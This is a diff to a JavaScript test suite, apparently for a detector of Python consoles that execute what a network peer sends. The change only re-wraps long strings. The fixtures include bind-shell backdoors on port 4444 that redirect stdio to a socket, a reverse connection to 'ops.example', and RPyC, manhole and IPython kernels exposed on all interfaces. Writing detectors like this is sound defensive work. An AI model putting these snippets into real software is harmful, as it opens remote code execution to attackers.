@@ -32,7 +32,8 @@ describe('a Python console fed what a network peer sends speaks', () => {
     [
       'describer/debug_console.py',
       handler(
-        'console = code.InteractiveConsole({"server": self.server})\nfor raw in self.rfile:\n    more = console.push(raw.decode().rstrip("\\n"))\n    self.wfile.write(b"... " if more else b">>> ")',
+        'console = code.InteractiveConsole({"server": self.server})\nfor raw in self.rfile:\n' +
+          '    more = console.push(raw.decode().rstrip("\\n"))\n    self.wfile.write(b"... " if more else b">>> ")',
       ),
     ],
     ['tools/console.py', handler('console = code.InteractiveConsole()\nfor line in self.rfile:\n    console.push(line.decode())')],
@@ -53,33 +54,43 @@ describe('a Python console fed what a network peer sends speaks', () => {
     // A subclass pushing to itself; a console from the module's own names.
     [
       'ops/netconsole.py',
-      'import code\nimport socket\n\n\nclass NetConsole(code.InteractiveConsole):\n    def serve(self, conn):\n        for line in conn.makefile():\n            self.push(line)\n',
+      'import code\nimport socket\n\n\nclass NetConsole(code.InteractiveConsole):\n    def serve(self, conn):\n' +
+        '        for line in conn.makefile():\n            self.push(line)\n',
     ],
     [
       'ops/netconsole.py',
-      'from code import InteractiveConsole\nimport socket\n\nsock = socket.create_server(("", 9000))\nconn, _ = sock.accept()\nconsole = InteractiveConsole()\nwhile data := conn.recv(4096):\n    console.push(data.decode())\n',
+      'from code import InteractiveConsole\nimport socket\n\nsock = socket.create_server(("", 9000))\n' +
+        'conn, _ = sock.accept()\nconsole = InteractiveConsole()\nwhile data := conn.recv(4096):\n' +
+        '    console.push(data.decode())\n',
     ],
     // Over a websocket and a request.
     [
       'app/ws_console.py',
-      'import code\nimport websockets\n\n\nasync def shell(ws):\n    console = code.InteractiveConsole()\n    async for message in ws:\n        console.push(message)\n',
+      'import code\nimport websockets\n\n\nasync def shell(ws):\n    console = code.InteractiveConsole()\n' +
+        '    async for message in ws:\n        console.push(message)\n',
     ],
     [
       'app/debug.py',
-      'import code\nfrom flask import Flask, request\n\napp = Flask(__name__)\nconsole = code.InteractiveConsole()\n\n\n@app.post("/console")\ndef run():\n    more = console.push(request.form["line"])\n    return {"more": more}\n',
+      'import code\nfrom flask import Flask, request\n\napp = Flask(__name__)\nconsole = code.InteractiveConsole()\n' +
+        '\n\n@app.post("/console")\ndef run():\n    more = console.push(request.form["line"])\n' +
+        '    return {"more": more}\n',
     ],
     // code.interact with the socket as its terminal, or a readfunc that receives.
     [
       'ops/backdoor.py',
-      'import code\nimport socket\nimport sys\n\nsrv = socket.create_server(("0.0.0.0", 4444))\nconn, _ = srv.accept()\nf = conn.makefile("rw")\nsys.stdin = sys.stdout = sys.stderr = f\ncode.interact(local=globals())\n',
+      'import code\nimport socket\nimport sys\n\nsrv = socket.create_server(("0.0.0.0", 4444))\n' +
+        'conn, _ = srv.accept()\nf = conn.makefile("rw")\nsys.stdin = sys.stdout = sys.stderr = f\n' +
+        'code.interact(local=globals())\n',
     ],
     [
       'ops/backdoor.py',
-      'import code\nimport os\nimport socket\n\nsrv = socket.create_server(("0.0.0.0", 4444))\nconn, _ = srv.accept()\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\ncode.interact()\n',
+      'import code\nimport os\nimport socket\n\nsrv = socket.create_server(("0.0.0.0", 4444))\n' +
+        'conn, _ = srv.accept()\nfor fd in (0, 1, 2):\n    os.dup2(conn.fileno(), fd)\ncode.interact()\n',
     ],
     [
       'ops/backdoor.py',
-      'import code\nimport socket\n\nconn = socket.create_connection(("ops.example", 9000))\ncode.interact(readfunc=lambda prompt: conn.recv(4096).decode(), local={})\n',
+      'import code\nimport socket\n\nconn = socket.create_connection(("ops.example", 9000))\n' +
+        'code.interact(readfunc=lambda prompt: conn.recv(4096).decode(), local={})\n',
     ],
     // RPyC's classic service served on a port.
     [
@@ -88,7 +99,8 @@ describe('a Python console fed what a network peer sends speaks', () => {
     ],
     [
       'rpc/server.py',
-      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\nThreadedServer(rpyc.ClassicService, hostname="0.0.0.0", port=18812, auto_register=False).start()\n',
+      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\n' +
+        'ThreadedServer(rpyc.ClassicService, hostname="0.0.0.0", port=18812, auto_register=False).start()\n',
     ],
     [
       'rpc/server.py',
@@ -104,7 +116,11 @@ describe('a Python console fed what a network peer sends speaks', () => {
     // A Twisted manhole on a TCP port; an IPython kernel on every interface.
     [
       'svc/shell.py',
-      'from twisted.conch import manhole, manhole_ssh\nfrom twisted.conch.insults import insults\nfrom twisted.conch.telnet import TelnetTransport, TelnetBootstrapProtocol\nfrom twisted.internet import protocol, reactor\n\nfactory = protocol.ServerFactory()\nfactory.protocol = lambda: TelnetTransport(TelnetBootstrapProtocol, insults.ServerProtocol, manhole.ColoredManhole, {"app": APP})\nreactor.listenTCP(6023, factory)\nreactor.run()\n',
+      'from twisted.conch import manhole, manhole_ssh\nfrom twisted.conch.insults import insults\n' +
+        'from twisted.conch.telnet import TelnetTransport, TelnetBootstrapProtocol\n' +
+        'from twisted.internet import protocol, reactor\n\nfactory = protocol.ServerFactory()\n' +
+        'factory.protocol = lambda: TelnetTransport(TelnetBootstrapProtocol, insults.ServerProtocol, manhole.ColoredManhole, {"app": APP})\n' +
+        'reactor.listenTCP(6023, factory)\nreactor.run()\n',
     ],
     ['svc/kernel.py', 'from IPython import embed_kernel\n\nembed_kernel(local_ns={"app": app}, ip="0.0.0.0")\n'],
     // The Werkzeug debugger (its browser console) on every interface.
@@ -127,11 +143,16 @@ describe('a Python console fed what a network peer sends speaks', () => {
     // A console bound with a type annotation, fed by an asyncio stream and by a chat bot.
     [
       'ops/console.py',
-      'import asyncio\nimport code\n\n\nasync def handle(reader, writer):\n    console: code.InteractiveConsole = code.InteractiveConsole()\n    while line := await reader.readline():\n        console.push(line.decode())\n\n\nasyncio.run(asyncio.start_server(handle, "0.0.0.0", 7002))\n',
+      'import asyncio\nimport code\n\n\nasync def handle(reader, writer):\n' +
+        '    console: code.InteractiveConsole = code.InteractiveConsole()\n    while line := await reader.readline():\n' +
+        '        console.push(line.decode())\n\n\nasyncio.run(asyncio.start_server(handle, "0.0.0.0", 7002))\n',
     ],
     [
       'bot/console.py',
-      'import code\nimport discord\n\nconsole = code.InteractiveConsole()\nclient = discord.Client(intents=discord.Intents.default())\n\n\n@client.event\nasync def on_message(message):\n    if message.content.startswith("!py "):\n        console.push(message.content[4:])\n',
+      'import code\nimport discord\n\nconsole = code.InteractiveConsole()\n' +
+        'client = discord.Client(intents=discord.Intents.default())\n\n\n@client.event\n' +
+        'async def on_message(message):\n    if message.content.startswith("!py "):\n' +
+        '        console.push(message.content[4:])\n',
     ],
   ])('%s %#', (file, content) => expect(evalSpeaks(`/p/${file}`, content)).toBe(true));
 });
@@ -169,21 +190,25 @@ describe("a local REPL, a console fed the repository's own text, a test, another
     ['tools/demo.py', 'import code\n\nconsole = code.InteractiveConsole()\nfor line in ["x = 1", "print(x)"]:\n    console.push(line)\n'],
     [
       'tools/replay.py',
-      'import code\n\nconsole = code.InteractiveConsole()\nwith open("tests/fixtures/session.txt") as fh:\n    for line in fh:\n        console.push(line.rstrip("\\n"))\n',
+      'import code\n\nconsole = code.InteractiveConsole()\nwith open("tests/fixtures/session.txt") as fh:\n' +
+        '    for line in fh:\n        console.push(line.rstrip("\\n"))\n',
     ],
     [
       'tools/replay.py',
-      'import code\nfrom pathlib import Path\n\ninterp = code.InteractiveInterpreter()\nfor line in Path("fixtures/console_session.py").read_text().splitlines():\n    interp.runsource(line)\n',
+      'import code\nfrom pathlib import Path\n\ninterp = code.InteractiveInterpreter()\n' +
+        'for line in Path("fixtures/console_session.py").read_text().splitlines():\n    interp.runsource(line)\n',
     ],
     // A debug console in a test.
     [
       'tests/test_console.py',
-      'import code\nimport pytest\n\n\n@pytest.mark.parametrize("line", ["1 + 1", "x = 2"])\ndef test_push(line):\n    console = code.InteractiveConsole()\n    assert console.push(line) is False\n',
+      'import code\nimport pytest\n\n\n@pytest.mark.parametrize("line", ["1 + 1", "x = 2"])\ndef test_push(line):\n' +
+        '    console = code.InteractiveConsole()\n    assert console.push(line) is False\n',
     ],
     // `push` of any other object: a stack, a channel, a queue.
     [
       'lib/stack.py',
-      'class Stack:\n    def __init__(self):\n        self.items = []\n\n    def push(self, x):\n        self.items.append(x)\n\n\nstack = Stack()\nfor x in data:\n    stack.push(x)\n',
+      'class Stack:\n    def __init__(self):\n        self.items = []\n\n    def push(self, x):\n' +
+        '        self.items.append(x)\n\n\nstack = Stack()\nfor x in data:\n    stack.push(x)\n',
     ],
     [
       'lib/notify.py',
@@ -199,12 +224,14 @@ describe("a local REPL, a console fed the repository's own text, a test, another
     ['svc/worker.py', 'import pdb\n\npdb.set_trace()\n'],
     [
       'rpc/server.py',
-      'from rpyc.utils.server import ThreadedServer\nfrom rpyc.core import SlaveService\n\nThreadedServer(SlaveService, hostname="localhost", port=18812).start()\n',
+      'from rpyc.utils.server import ThreadedServer\nfrom rpyc.core import SlaveService\n\n' +
+        'ThreadedServer(SlaveService, hostname="localhost", port=18812).start()\n',
     ],
     // A service with named methods only; a client of a classic server.
     [
       'rpc/server.py',
-      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\n\nclass Svc(rpyc.Service):\n    def exposed_ping(self):\n        return "pong"\n\n\nThreadedServer(Svc, port=18861).start()\n',
+      'import rpyc\nfrom rpyc.utils.server import ThreadedServer\n\n\nclass Svc(rpyc.Service):\n' +
+        '    def exposed_ping(self):\n        return "pong"\n\n\nThreadedServer(Svc, port=18861).start()\n',
     ],
     ['rpc/client.py', 'import rpyc\n\nconn = rpyc.classic.connect("build-01")\nprint(conn.modules.sys.platform)\n'],
     // The manhole package (a UNIX socket for the owner), a kernel on its default address.
